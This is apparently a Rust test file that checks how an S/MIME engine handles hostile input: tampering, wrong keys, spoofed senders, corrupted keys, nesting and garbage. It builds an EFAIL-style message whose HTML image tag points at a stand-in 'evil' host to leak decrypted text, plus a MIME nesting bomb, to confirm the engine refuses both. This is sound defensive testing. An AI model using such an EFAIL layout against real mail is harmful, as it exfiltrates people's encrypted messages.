//! Behaviour of the S/MIME engine on hostile and unusual input: tampering, wrong keys,
//! garbage, EFAIL layouts, nesting, unusable certificates.

mod smime_common;

use std::time::{Duration, SystemTime};

use segl::smime::{self, EncryptOptions, Layer, Limits, Recipient, SignOptions, SmimeError};
use smime_common::*;

#[test]
fn hostile_and_nested_input() {
    let fx = Fixture::new();
    let alice = fx.key("alice");
    let bob_key = fx.key("bob");
    let msg = sample_message();
    let now = SystemTime::now();
    let anchors = [fx.ca()];

    // Round trip and report contents.
    let signed = smime::sign(&msg, &alice, &[], &SignOptions::default()).unwrap();
    let report = smime::verify(&signed, &anchors, &[], now).unwrap();
    report.ensure_valid().unwrap();
    assert!(report.detached);
    assert_eq!(report.certificates.len(), 1);
    let s = &report.signers[0];
    assert!(s.capabilities.aes256_gcm() && s.capabilities.rsa_oaep());
    assert_eq!(s.address_match, smime::AddressMatch::Exact);
    assert!(s.signing_time.is_some());
    let text = String::from_utf8_lossy(&report.content).into_owned();
    assert!(text.contains("Subject: Quarterly report"));
    // 8-bit body was made 7-bit safe inside the signature.
    assert!(signed.iter().all(|b| *b < 0x80));

    // Tampered content: digest mismatch, not a panic.
    let tampered = String::from_utf8(signed.clone()).unwrap().replacen(
        "Content-Transfer-Encoding: base64\r\n\r\n",
        "Content-Transfer-Encoding: base64\r\n\r\nQUFB",
        1,
    );
    let r = smime::verify(tampered.as_bytes(), &anchors, &[], now).unwrap();
    assert_eq!(r.ensure_valid(), Err(SmimeError::DigestMismatch));

    // Untrusted: no anchors.
    let r = smime::verify(&signed, &[], &[], now).unwrap();
    assert!(matches!(
        r.ensure_valid(),
        Err(SmimeError::UntrustedChain(_))
    ));
    // Expired at "now" (two years later).
    let later = now + Duration::from_secs(2 * 365 * 86400);
    let r = smime::verify(&signed, &anchors, &[], later).unwrap();
    assert!(!r.signers[0].chain.as_ref().unwrap().valid_now);
    assert!(r.ensure_valid().is_err());

    // From address mismatch is reported.
    let spoofed = String::from_utf8(signed.clone()).unwrap().replacen(
        "From: Alice <alice@example.org>",
        "From: Mallory <ceo@example.org>",
        1,
    );
    let r = smime::verify(spoofed.as_bytes(), &anchors, &[], now).unwrap();
    assert_eq!(r.signers[0].address_match, smime::AddressMatch::NoMatch);

    // Encryption: wrong recipient, tampered ciphertext.
    let enc = smime::encrypt(&msg, &[fx.cert("bob").into()], &EncryptOptions::default()).unwrap();
    let d = smime::decrypt(&enc, &vec![bob_key]).unwrap();
    assert!(String::from_utf8_lossy(&d.message).contains("Subject: Quarterly report"));
    assert_eq!(
        smime::decrypt(&enc, &vec![fx.key("dave")]).unwrap_err(),
        SmimeError::NoMatchingRecipient
    );
    let mut der = p7m_der(&enc);
    let n = der.len();
    der[n - 20] ^= 0x55;
    let bad = wrap_p7m("enveloped-data", &der, "bob");
    assert!(matches!(
        smime::decrypt(&bad, &vec![fx.key("bob")]),
        Err(SmimeError::DecryptionFailed) | Ok(_)
    ));
    // A corrupted wrapped key (RFC 3218): same vague error as tampering, no oracle.
    let mut der = p7m_der(&enc);
    let pos = der
        .windows(4)
        .position(|w| w == [0x04, 0x82, 0x01, 0x00])
        .unwrap();
    der[pos + 10] ^= 0xff;
    let bad = wrap_p7m("enveloped-data", &der, "bob");
    assert_eq!(
        smime::decrypt(&bad, &vec![fx.key("bob")]).unwrap_err(),
        SmimeError::DecryptionFailed
    );

    // Sender is a recipient by default via sign_and_encrypt.
    let se = smime::sign_and_encrypt(
        &msg,
        &alice,
        &[],
        &[fx.cert("bob").into()],
        &SignOptions::default(),
        &EncryptOptions::default(),
    )
    .unwrap();
    smime::decrypt(&se, &vec![fx.key("alice")]).unwrap();
    let mut no_sender = EncryptOptions::default();
    no_sender.include_sender = false;
    let se2 = smime::sign_and_encrypt(
        &msg,
        &alice,
        &[],
        &[fx.cert("bob").into()],
        &SignOptions::default(),
        &no_sender,
    )
    .unwrap();
    assert_eq!(
        smime::decrypt(&se2, &vec![fx.key("alice")]).unwrap_err(),
        SmimeError::NoMatchingRecipient
    );

    // GCM only when every recipient advertised it.
    let gcm_bob = Recipient {
        supports_aes256_gcm: true,
        ..Recipient::from(fx.cert("bob"))
    };
    let e1 = smime::encrypt(
        &msg,
        std::slice::from_ref(&gcm_bob),
        &EncryptOptions::default(),
    )
    .unwrap();
    assert!(String::from_utf8_lossy(&e1).contains("authEnveloped-data"));
    let e2 = smime::encrypt(
        &msg,
        &[gcm_bob, fx.cert("dave").into()],
        &EncryptOptions::default(),
    )
    .unwrap();
    assert!(String::from_utf8_lossy(&e2).contains("smime-type=enveloped-data"));

    // Signing-only certificate is refused as a recipient.
    assert!(matches!(
        smime::encrypt(
            &msg,
            &[fx.cert("signonly").into()],
            &EncryptOptions::default()
        ),
        Err(SmimeError::CertificateUnusable(_))
    ));

    // Triple wrap: sign, encrypt, sign again; unwrap peels all three.
    let inner_signed = smime::sign(&msg, &alice, &[], &SignOptions::default()).unwrap();
    let encd = smime::encrypt(
        &inner_signed,
        &[fx.cert("bob").into()],
        &EncryptOptions::default(),
    )
    .unwrap();
    let triple = smime::sign(&encd, &alice, &[], &SignOptions::default()).unwrap();
    let u = smime::unwrap(
        &triple,
        &vec![fx.key("bob")],
        &anchors,
        &[],
        now,
        Limits::default(),
    )
    .unwrap();
    assert_eq!(u.layers.len(), 3, "{:?}", u.layers);
    assert!(matches!(u.layers[0], Layer::Signed(_)));
    assert!(matches!(u.layers[1], Layer::Decrypted(_)));
    assert!(matches!(&u.layers[2], Layer::Signed(r) if r.is_valid()));
    assert!(String::from_utf8_lossy(&u.message).contains("Subject: Quarterly report"));
    // Depth limit.
    let mut lim = Limits::default();
    lim.max_depth = 1;
    let u = smime::unwrap(&triple, &vec![fx.key("bob")], &anchors, &[], now, lim).unwrap();
    assert!(matches!(
        u.layers.last(),
        Some(Layer::Untouched(SmimeError::LimitExceeded(_)))
    ));

    // EFAIL: an encrypted part beside attacker-controlled parts stays encrypted.
    let enc_entity = String::from_utf8(enc.clone()).unwrap();
    let enc_entity = &enc_entity[enc_entity
        .find("Content-Type: application/pkcs7-mime")
        .unwrap()..];
    let efail = format!("From: bob@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"E\"\r\n\r\n--E\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/?\r\n--E\r\n{enc_entity}\r\n--E\r\nContent-Type: text/html\r\n\r\n\">\r\n--E--\r\n");
    assert!(matches!(
        smime::decrypt(efail.as_bytes(), &vec![fx.key("bob")]),
        Err(SmimeError::Refused(_))
    ));
    let u = smime::unwrap(
        efail.as_bytes(),
        &vec![fx.key("bob")],
        &anchors,
        &[],
        now,
        Limits::default(),
    )
    .unwrap();
    assert!(matches!(
        &u.layers[..],
        [Layer::Untouched(SmimeError::Refused(_))]
    ));
    assert_eq!(u.message, efail.as_bytes());

    // Forwarded signed mail inside multipart/mixed is verified where it stands.
    let signed_entity = String::from_utf8(signed.clone()).unwrap();
    let signed_entity = &signed_entity[signed_entity
        .find("Content-Type: multipart/signed")
        .unwrap()..];
    let fwd = format!("From: carol@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"F\"\r\n\r\n--F\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n--F\r\n{signed_entity}\r\n--F--\r\n");
    let u = smime::unwrap(
        fwd.as_bytes(),
        &vec![fx.key("bob")],
        &anchors,
        &[],
        now,
        Limits::default(),
    )
    .unwrap();
    assert!(matches!(&u.layers[..], [Layer::NestedSignature(r)] if r.signers[0].signature.is_ok()));

    // Garbage and truncation never panic.
    let full = p7m_der(&enc);
    for cut in [0usize, 10, 100, 500, full.len() - 1] {
        let t = &full[..cut];
        let m = wrap_p7m("enveloped-data", t, "bob");
        assert!(smime::decrypt(&m, &vec![fx.key("bob")]).is_err());
        let m = wrap_p7m("signed-data", t, "bob");
        assert!(smime::verify(&m, &anchors, &[], now).is_err());
    }
    assert!(smime::decrypt(b"\xff\xfe garbage", &vec![fx.key("bob")]).is_err());
    assert!(smime::verify(
        b"Content-Type: multipart/signed; boundary=x\r\n\r\n--x\r\n",
        &anchors,
        &[],
        now
    )
    .is_err());

    // MIME bomb: deep nesting is cut off.
    let mut bomb = String::from("Content-Type: text/plain\r\n\r\nx\r\n");
    for i in 0..50 {
        bomb = format!("Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n{bomb}\r\n--b{i}--\r\n");
    }
    let bomb = format!("From: x@example.org\r\n{bomb}");
    let r = smime::unwrap(
        bomb.as_bytes(),
        &vec![fx.key("bob")],
        &anchors,
        &[],
        now,
        Limits::default(),
    );
    assert!(matches!(r, Err(SmimeError::LimitExceeded(_))));
}
